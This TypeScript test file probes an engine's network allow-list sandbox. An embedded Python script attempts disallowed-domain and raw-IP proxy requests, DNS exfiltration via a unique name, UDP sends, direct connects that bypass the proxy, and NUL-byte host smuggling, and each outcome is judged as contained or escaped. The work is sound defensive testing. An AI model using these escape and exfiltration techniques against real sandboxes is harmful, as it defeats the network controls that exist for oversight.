/**
 * Network allow-list probes (#18): each runs in a side workspace whose
 * allow-list names only a host that does not exist
 * (`allowed-TOKEN.invalid`), so the engine's egress proxy is up and every
 * attempt below must be denied by it, or fail for want of a route.
 *
 *  - a disallowed domain and a raw IP literal, through the proxy, aimed at
 *    a listener the probe opened on the host's loopback;
 *  - DNS exfiltration: a unique name asked of the job's own resolver (no
 *    server is reachable) and of the proxy (a denied name is never looked
 *    up: every decision for it must read `not in allow-list`);
 *  - UDP, and a direct connect that bypasses the proxy, aimed at a listener
 *    on every host address and at public addresses.
 *
 * Nothing a job sends carries host data: the probe's own tokens only.
 */
import { createSocket } from 'node:dgram';
import { createServer, type Socket } from 'node:net';
import { networkInterfaces } from 'node:os';
import type { EgressDecision } from '../network/egress-ledger.js';
import { EGRESS_HTTP_PORT, EGRESS_SOCKS_PORT } from '../network/egress-sandbox.js';
import { openListener } from './host-fixtures.js';
import {
  linesStartingWith,
  notAttempted,
  type Attempt,
  type Judgement,
  type JobFacts,
  type NetworkSideOutcome,
  type ProbeHost,
  type Scenario,
} from './probe-types.js';

const DONE = 'probe-done';

/** CONNECT / SOCKS5 / plain GET through the in-sandbox proxies; raw connects and UDP sends; getaddrinfo. One line per attempt. */
const EGRESS_SCRIPT = `import socket, sys
def answer(s):
    data = b''
    try:
        while b'\\r\\n' not in data and len(data) < 512:
            chunk = s.recv(512)
            if not chunk: break
            data += chunk
    except OSError as e: return 'error ' + (e.strerror or type(e).__name__)
    return data.split(b'\\r\\n')[0].decode('latin1') or 'closed'
for arg in sys.argv[1:]:
    kind, target = arg.split('=', 1)
    target = target.encode('latin1').decode('unicode_escape')  # argv cannot carry a NUL: \\x00 spells one
    try:
        if kind == 'connect':
            s = socket.create_connection(('127.0.0.1', ${EGRESS_HTTP_PORT}), timeout=5)
            s.sendall(('CONNECT %s HTTP/1.1\\r\\n\\r\\n' % target).encode('latin1'))
            print('answer:', arg, answer(s)); s.close()
        elif kind == 'get':
            s = socket.create_connection(('127.0.0.1', ${EGRESS_HTTP_PORT}), timeout=5)
            s.sendall(('GET http://%s/ HTTP/1.1\\r\\n\\r\\n' % target).encode('latin1'))
            print('answer:', arg, answer(s)); s.close()
        elif kind == 'socks':
            host, port = target.rsplit(':', 1)
            s = socket.create_connection(('127.0.0.1', ${EGRESS_SOCKS_PORT}), timeout=5)
            s.sendall(b'\\x05\\x01\\x00'); s.recv(2)
            s.sendall(b'\\x05\\x01\\x00\\x03' + bytes([len(host)]) + host.encode('latin1') + int(port).to_bytes(2, 'big'))
            r = s.recv(10); print('answer:', arg, 'socks-reply', r[1] if len(r) > 1 else 'closed'); s.close()
        elif kind == 'direct':
            host, port = target.rsplit(':', 1)
            s = socket.create_connection((host.strip('[]'), int(port)), timeout=3)
            print('connected:', arg); s.close()
        elif kind == 'udp':
            host, port = target.rsplit(':', 1)
            fam = socket.AF_INET6 if ':' in host else socket.AF_INET
            s = socket.socket(fam, socket.SOCK_DGRAM); s.settimeout(2)
            s.sendto(b'hsprobe', (host.strip('[]'), int(port))); print('sent:', arg); s.close()
        elif kind == 'resolve':
            print('resolved:', arg, sorted({a[4][0] for a in socket.getaddrinfo(target, 443)}))
    except OSError as e:
        print('failed:', arg, e.strerror or type(e).__name__)
print('${DONE}')`;

export interface EgressFacts {
  side: NetworkSideOutcome | undefined;
  /** Connections and datagrams the probe's host listeners received. */
  received: number;
  /** The probe's unique name (DNS exfiltration) when there is one. */
  name?: string;
}

const allowList = (host: ProbeHost) => [`allowed-${host.token().slice(0, 12)}.invalid`];

/** The main probe job only proves the workspace runs; the attempt is the side workspace's job. */
const MAIN_ARGV = ['python3', '-c', `print('${DONE}')`];

/** Every non-loopback address of the host, for the listeners that must see nothing. */
function hostAddresses(): string[] {
  return Object.values(networkInterfaces())
    .flat()
    .filter((a) => a !== undefined && !a.internal && a.family === 'IPv4')
    .map((a) => a!.address)
    .slice(0, 4);
}

/** A TCP listener on all host addresses that counts connections (openListener binds loopback only). */
async function openWideListener(): Promise<{ port: number; accepted: () => number; close: () => Promise<void> }> {
  let count = 0;
  const sockets = new Set<Socket>();
  const server = createServer((s) => {
    count++;
    sockets.add(s);
    s.on('error', () => undefined);
    s.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '0.0.0.0', () => resolve()));
  const port = (server.address() as { port: number }).port;
  return { port, accepted: () => count, close: () => new Promise<void>((resolve) => server.close(() => resolve())) };
}

function sideFirst(job: JobFacts, facts: EgressFacts): Judgement | { side: Extract<NetworkSideOutcome, { output: string }> } {
  const unrun = notAttempted(job, DONE);
  if (unrun) return unrun;
  const side = facts.side;
  if (side === undefined) return { verdict: 'skipped', evidence: 'the network attempt did not run' };
  if ('refused' in side) return { verdict: 'skipped', evidence: `the allow-list workspace was refused at ${side.at}: ${side.refused}` };
  const sideUnrun = notAttempted({ status: side.exitCode === 127 ? 'failure' : 'success', exitCode: side.exitCode, output: side.output }, DONE);
  if (sideUnrun) return sideUnrun;
  return { side };
}

/** Escaped when a host listener saw anything, the proxy allowed anything, or an attempt got a 200 / SOCKS grant. */
function judgeDenied(job: JobFacts, facts: EgressFacts): Judgement {
  const first = sideFirst(job, facts);
  if ('verdict' in first) return first;
  const { side } = first;
  const answers = linesStartingWith(side.output, 'answer:');
  const granted = answers.filter((a) => / 200 |socks-reply 0$/.test(a));
  const allowed = side.decisions.filter((d) => d.verdict === 'allowed');
  const connected = linesStartingWith(side.output, 'connected:');
  const sent = linesStartingWith(side.output, 'sent:');
  const lines = [...granted, ...connected.map((c) => `connected: ${c}`), ...sent.map((s) => `sent: ${s}`)];
  if (facts.received > 0)
    return { verdict: 'escaped', evidence: `the probe's host listeners received ${facts.received} connection(s) or datagram(s) from inside`, lines };
  if (granted.length > 0 || allowed.length > 0)
    return { verdict: 'escaped', evidence: `the proxy let through: ${granted.concat(allowed.map(describe)).join('; ')}`, lines };
  if (connected.length > 0) return { verdict: 'escaped', evidence: `connected around the proxy: ${connected.join('; ')}`, lines };
  if (sent.length > 0) return { verdict: 'escaped', evidence: `UDP left the sandbox: ${sent.join('; ')}`, lines };
  const denied = side.decisions.map(describe);
  const failed = linesStartingWith(side.output, 'failed:');
  return {
    verdict: 'contained',
    evidence: [denied.length ? `proxy denied ${denied.join('; ')}` : '', failed.length ? `failed inside: ${failed.join('; ')}` : ''].filter(Boolean).join('; '),
  };
}

function describe(d: EgressDecision): string {
  return `${d.host}:${d.port}${d.verdict === 'allowed' ? ' allowed' : ''}${d.reason ? ` (${d.reason})` : ''}`;
}

/** Opens a listener on the host's loopback and runs the attempts the port gives, in an allow-list workspace. */
async function throughProxyAtLoopback(host: ProbeHost, attempts: (port: number | string) => string[]): Promise<Attempt<EgressFacts>> {
  const listener = await openListener({ tcp: true }, `hsprobe-${host.token()}`);
  host.defer(() => listener.close());
  const side = await host.tryNetworkWorkspace(allowList(host), ['python3', '-c', EGRESS_SCRIPT, ...attempts(listener.address)]);
  return { argv: MAIN_ARGV, observe: async () => ({ side, received: listener.accepted() }) };
}

const EGRESS_BASE = { requires: ['network' as const], requiresFeatures: ['network-allowlist' as const] };

export const egressDisallowedDomain: Scenario<EgressFacts> = {
  ...EGRESS_BASE,
  id: 'egress-disallowed-domain',
  title: 'a domain not in the allow-list',
  attempts:
    "ask the egress proxy (CONNECT, plain GET, SOCKS5) for localhost and a public name, neither in the allow-list, aiming at a listener on the host's loopback",
  prepare: (host) => throughProxyAtLoopback(host, (p) => [`connect=localhost:${p}`, `get=localhost:${p}`, `socks=localhost:${p}`, 'connect=example.com:443']),
  judge: judgeDenied,
};

export const egressIpLiteral: Scenario<EgressFacts> = {
  ...EGRESS_BASE,
  id: 'egress-ip-literal',
  title: 'a raw IP literal',
  attempts: "ask the egress proxy for 127.0.0.1, [::1] and a public address by IP, none listed, aiming at a listener on the host's loopback",
  prepare: (host) =>
    throughProxyAtLoopback(host, (p) => [`connect=127.0.0.1:${p}`, `connect=[::1]:${p}`, `get=127.0.0.1:${p}`, `socks=127.0.0.1:${p}`, 'connect=1.1.1.1:443']),
  judge: judgeDenied,
};

export const egressDnsExfiltration: Scenario<EgressFacts> = {
  ...EGRESS_BASE,
  id: 'egress-dns-exfiltration',
  title: 'DNS exfiltration',
  attempts: "look up a unique name with the job's own resolver, and ask the egress proxy for it (CONNECT, SOCKS5): the name must never be looked up",
  async prepare(host) {
    const name = `x${host.token().slice(0, 16)}.hsprobe-exfil.example.com`;
    const side = await host.tryNetworkWorkspace(allowList(host), [
      'python3',
      '-c',
      EGRESS_SCRIPT,
      `resolve=${name}`,
      `connect=${name}:443`,
      `socks=${name}:443`,
    ]);
    return { argv: MAIN_ARGV, observe: async () => ({ side, received: 0, name }) };
  },
  judge(job, facts) {
    const first = sideFirst(job, facts);
    if ('verdict' in first) return first;
    const { side } = first;
    const resolved = linesStartingWith(side.output, 'resolved:');
    if (resolved.length > 0) return { verdict: 'escaped', evidence: `the job's own resolver answered: ${resolved.join('; ')}`, lines: resolved };
    const forName = side.decisions.filter((d) => d.host === facts.name);
    // Only `not in allow-list` is decided before any lookup; any other outcome means the name reached a resolver.
    const looked = forName.filter((d) => d.reason !== 'not in allow-list');
    if (looked.length > 0)
      return { verdict: 'escaped', evidence: `the proxy went past the allow-list for the unique name: ${looked.map(describe).join('; ')}` };
    if (forName.length === 0) return { verdict: 'skipped', evidence: 'the proxy recorded no decision for the unique name: the attempt did not reach it' };
    return {
      verdict: 'contained',
      evidence: `the job's resolver failed (${linesStartingWith(side.output, 'failed:')[0] ?? 'no answer'}); the proxy denied the name ${forName.length} time(s) before any lookup`,
    };
  },
};

export const egressUdp: Scenario<EgressFacts> = {
  ...EGRESS_BASE,
  id: 'egress-udp',
  title: 'UDP out of an allow-list workspace',
  attempts: 'send UDP datagrams to public resolvers and to a listener on every host address (the proxy carries TCP only)',
  async prepare(host) {
    const udp = createSocket('udp4');
    let received = 0;
    udp.on('message', () => received++);
    await new Promise<void>((resolve) => udp.bind(0, '0.0.0.0', () => resolve()));
    host.defer(() => udp.close());
    const port = udp.address().port;
    const targets = ['udp=1.1.1.1:53', 'udp=8.8.8.8:53', `udp=127.0.0.1:${port}`, ...hostAddresses().map((a) => `udp=${a}:${port}`)];
    const side = await host.tryNetworkWorkspace(allowList(host), ['python3', '-c', EGRESS_SCRIPT, ...targets]);
    // Datagrams to the job's own loopback never leave its namespace: a send there is not an escape, a receipt here is.
    if (side !== undefined && 'output' in side) side.output = side.output.replace(new RegExp(`^sent: udp=127\\.0\\.0\\.1:${port}\\n`, 'm'), '');
    await new Promise((r) => setTimeout(r, 200));
    return { argv: MAIN_ARGV, observe: async () => ({ side, received }) };
  },
  judge: judgeDenied,
};

export const egressDirectConnect: Scenario<EgressFacts> = {
  ...EGRESS_BASE,
  id: 'egress-direct-connect',
  title: 'a direct connect around the proxy',
  attempts: 'connect without the proxy to public addresses and to a listener on every host address',
  async prepare(host) {
    const listener = await openWideListener();
    host.defer(() => listener.close());
    const targets = ['direct=1.1.1.1:443', 'direct=8.8.8.8:53', ...hostAddresses().map((a) => `direct=${a}:${listener.port}`)];
    const side = await host.tryNetworkWorkspace(allowList(host), ['python3', '-c', EGRESS_SCRIPT, ...targets]);
    return { argv: MAIN_ARGV, observe: async () => ({ side, received: listener.accepted() }) };
  },
  judge: judgeDenied,
};

/** #18 F1: what a job may put in a host besides an LDH name or an IP literal; a C resolver reads only up to a NUL. */
const MALFORMED_HOSTS = (domain: string, port: number | string) => [
  `connect=127.0.0.1\\x00.${domain}:${port}`,
  `connect=localhost\\x00.${domain}:${port}`,
  `get=127.0.0.1\\x00.${domain}:${port}`,
  `socks=localhost\\x00.${domain}:${port}`,
  `connect=localhost\\x01.${domain}:${port}`,
  `connect=a_b.${domain}:${port}`,
];

export const egressMalformedHost: Scenario<EgressFacts> = {
  ...EGRESS_BASE,
  id: 'egress-malformed-host',
  title: 'a NUL or control byte in a host under a wildcard',
  attempts:
    "ask the egress proxy (CONNECT, plain GET, SOCKS5) for 'localhost\\0.<allowed wildcard domain>' and other hosts with a NUL, a control byte or an underscore, aiming at a listener on the host's loopback: each must be denied as malformed, before any match or lookup",
  async prepare(host) {
    const domain = `hsprobe-${host.token().slice(0, 12)}.invalid`;
    const listener = await openListener({ tcp: true }, `hsprobe-${host.token()}`);
    host.defer(() => listener.close());
    const side = await host.tryNetworkWorkspace([`*.${domain}`], ['python3', '-c', EGRESS_SCRIPT, ...MALFORMED_HOSTS(domain, listener.address)]);
    return { argv: MAIN_ARGV, observe: async () => ({ side, received: listener.accepted() }) };
  },
  judge(job, facts) {
    const judged = judgeDenied(job, facts);
    if (judged.verdict !== 'contained' || facts.side === undefined || !('decisions' in facts.side)) return judged;
    // Any other reason means the host went past the syntax gate: matched, looked up or connected.
    const past = facts.side.decisions.filter((d) => d.reason !== 'malformed host');
    if (past.length > 0) return { verdict: 'escaped', evidence: `the proxy judged a malformed host past its syntax check: ${past.map(describe).join('; ')}` };
    if (facts.side.decisions.length === 0) return { verdict: 'skipped', evidence: 'the proxy recorded no decision: the attempts did not reach it' };
    return judged;
  },
};
